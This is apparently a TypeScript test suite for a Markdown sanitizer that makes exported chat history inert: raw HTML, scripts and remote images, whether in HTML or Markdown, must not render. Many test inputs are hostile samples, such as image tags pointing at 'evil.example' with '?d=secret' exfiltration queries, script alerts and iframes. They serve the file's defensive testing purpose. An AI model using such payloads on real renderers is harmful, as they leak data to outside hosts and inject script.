// Exported Markdown is inert: read by a real Markdown renderer (markdown-it as VS Code's preview configures it:
// raw HTML on, linkify on, GFM tables), what inertMarkdown writes has no HTML of its own and no image, and
// no fenced block open at its end; code keeps its `<`. A seeded fuzz of hostile pieces checks the same.
import * as assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { inertInline, inertMarkdown } from '../../src/core/history/inertMarkdown';

const md = new MarkdownIt({ html: true, linkify: true });
/** The tags markdown-it writes for Markdown itself; anything else came from raw HTML in the text. */
const MARKDOWN_TAGS = new Set(['p', 'code', 'pre', 'a', 'em', 'strong', 'ul', 'ol', 'li', 'blockquote', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6',
  'hr', 'br', 's', 'table', 'thead', 'tbody', 'tr', 'th', 'td']);

/** What a renderer makes of `text`: the tags it wrote and whether a fence is still open at the end. */
function rendered(text: string): { html: string; foreignTags: string[]; images: number; openAtEnd: boolean } {
  const html = md.render(text);
  const foreignTags = [...html.matchAll(/<\/?([a-zA-Z][\w-]*)/g)].map((m) => m[1]!.toLowerCase()).filter((t) => !MARKDOWN_TAGS.has(t));
  // A sentinel paragraph after the text: it must come out as a paragraph of its own, not inside code.
  const openAtEnd = !md.render(`${text}\n\nSENTINEL-LINE\n`).includes('<p>SENTINEL-LINE</p>');
  return { html, foreignTags, images: (html.match(/<img\b/g) ?? []).length, openAtEnd };
}

function assertInert(input: string, label = JSON.stringify(input)): string {
  const out = inertMarkdown(input);
  const r = rendered(out);
  assert.deepEqual(r.foreignTags, [], `${label}: raw HTML got through: ${out}`);
  assert.equal(r.images, 0, `${label}: an image got through: ${out}`);
  assert.equal(r.openAtEnd, false, `${label}: a fence is left open: ${out}`);
  return out;
}

describe('inert Markdown for exports', () => {
  it('raw HTML becomes text; a remote image in HTML is not loaded', () => {
    const out = assertInert('Look: <img src=https://evil.example/p.png?d=secret> and <script>alert(1)</script>');
    assert.equal(out, 'Look: &lt;img src=https://evil.example/p.png?d=secret> and &lt;script>alert(1)&lt;/script>');
    assert.match(rendered(out).html, /&lt;img src=/);
    assertInert('<details open>\n<summary>x</summary>\n\n<img src="https://evil.example/a.png">\n</details>');
    assertInert('<!-- comment --><iframe src="https://evil.example"></iframe>');
  });

  it('Markdown images (inline, reference, nested in a link) become plain links', () => {
    const out = assertInert('![chart](https://evil.example/c.png?d=secret)');
    assert.equal(out, '\\![chart](https://evil.example/c.png?d=secret)');
    assert.match(rendered(out).html, /!<a href="https:\/\/evil\.example\/c\.png\?d=secret">chart<\/a>/);
    assert.match(rendered(assertInert('![x][ref]\n\n[ref]: https://evil.example/r.png')).html, /!<a href="https:\/\/evil\.example\/r\.png">x<\/a>/);
    assertInert('![x]\n\n[x]: //evil.example/protocol-relative.png');
    assertInert('[![badge](https://evil.example/b.svg)](https://example.com)');
    assertInert('\\\\![x](https://evil.example/after-an-escaped-backslash.png)');
    assertInert('An autolink <https://evil.example/x.png> and a bare one https://evil.example/y.png');
  });

  it('code keeps its < as it is: fenced blocks, code spans, tildes', () => {
    const text = 'Use `Vec<T>` or ``a<`b``:\n\n```ts\nconst x: Array<number> = [];\n<img src=x>\n```\n\n~~~html\n<b>bold</b>\n~~~';
    assert.equal(assertInert(text), text);
    const html = rendered(text).html;
    assert.match(html, /<code>Vec&lt;T&gt;<\/code>/);
    assert.match(html, /&lt;img src=x&gt;/);
  });

  it('an unclosed fence is closed at the end of its text, with its own indentation', () => {
    assert.equal(assertInert('Here:\n\n````py\nprint(1)\n```\n'), 'Here:\n\n````py\nprint(1)\n```\n````');
    assert.equal(assertInert('1. Step\n   ~~~\n   code'), '1. Step\n   ~~~\n   code\n   ~~~');
  });

  it('a fence inside a list item cannot end early on a less indented line and let HTML out', () => {
    // markdown-it ends the list item (and its code block) at "<img…>"; written indented, the line stays code.
    assertInert('- item\n  ```\n<img src=https://evil.example/x.png>\n  ```\nafter');
    // A closing line indented too far for the reader is written at the opener's indentation.
    assertInert('```\n      ```\n```\n<img src=https://evil.example/x.png>\n```');
  });

  it('backticks that a reader could pair otherwise are escaped: no code span hides HTML', () => {
    // The first backtick pairs with the one on the next line for markdown-it; each line alone would keep a span.
    assertInert('a ` b\nc ` <img src=https://evil.example/1.png> `');
    assertInert('# title `\n<img src=https://evil.example/2.png> `');
    assertInert('\\`<img src=https://evil.example/3.png>`');
    assertInert('\\``<img src=https://evil.example/4.png>``');
    assertInert('x `\n\n<img src=https://evil.example/5.png> `');
    assertInert('`a\n\nb` <img src=x> `c`');
  });

  it('a table cell cannot close a code span that started in another cell', () => {
    assertInert('| a | b |\n|---|---|\n| `x | <img src=https://evil.example/t.png> | y` |');
    assertInert('| a | b |\n|---|---|\n| `x | ![i](https://evil.example/t.png) | y` |');
    assertInert('> | a | b |\n> | - | - |\n> | `x | <img src=https://evil.example/t.png> | y` |');
  });

  it('a line indented past a fence does not open one (its tildes and backticks are escaped)', () => {
    assertInert('- a\n\n    ~~~\n<img src=https://evil.example/x.png>\n    ~~~');
    assertInert('- a\n\n    ```\n<img src=https://evil.example/x.png>\n    ```');
  });

  it('CR line ends are read as a Markdown reader reads them', () => {
    assertInert('```\r\n<img src=x>\r\n```\r\n<img src=https://evil.example/cr.png>');
    assertInert('```\r<img src=x>\r```\r<img src=https://evil.example/cr.png>');
  });

  it('survives a seeded fuzz of hostile pieces (no HTML, no image, no open fence)', () => {
    const pieces = ['`', '``', '```', '````', '~~~', '\\', '\\`', '<img src=https://e.x/p.png>', '<b>', '</details>', '![a](https://e.x/i.png)',
      '![b][r]', '[r]: https://e.x/r.png', '|', '| --- |', '---', '\n', '\n\n', '  ', '    ', '\t', '> ', '- ', '1. ', 'text', '<', '!', '[', ']', '(', ')', '*'];
    let seed = 20261207;
    const random = (n: number) => { seed = (seed * 1103515245 + 12345) % 2147483648; return seed % n; };
    for (let k = 0; k < 3000; k++) {
      let s = '';
      const n = 1 + random(24);
      for (let j = 0; j < n; j++) s += pieces[random(pieces.length)];
      assertInert(s, `case ${k}: ${JSON.stringify(s)}`);
    }
  });

  it('is linear: long hostile input takes milliseconds', () => {
    for (const hostile of ['`'.repeat(200_000), '` `` '.repeat(40_000), '```\n'.repeat(50_000), '| `a '.repeat(50_000), '\\'.repeat(200_000) + '<']) {
      const t0 = performance.now();
      inertMarkdown(hostile);
      assert.ok(performance.now() - t0 < 1500, `${JSON.stringify(hostile.slice(0, 12))}…: ${performance.now() - t0} ms`);
    }
  });

  it('inline text (titles, names, queries): no code, no HTML, no image, one line', () => {
    const out = inertInline('a `b` <img src=https://e.x/i.png>\n![c](https://e.x/c.png) \\');
    assert.equal(out, 'a \\`b\\` &lt;img src=https://e.x/i.png> \\![c](https://e.x/c.png) \\\\');
    const r = rendered(`# ${out}`);
    assert.deepEqual([r.foreignTags, r.images], [[], 0]);
    assert.doesNotMatch(r.html, /<code>/);
  });
});
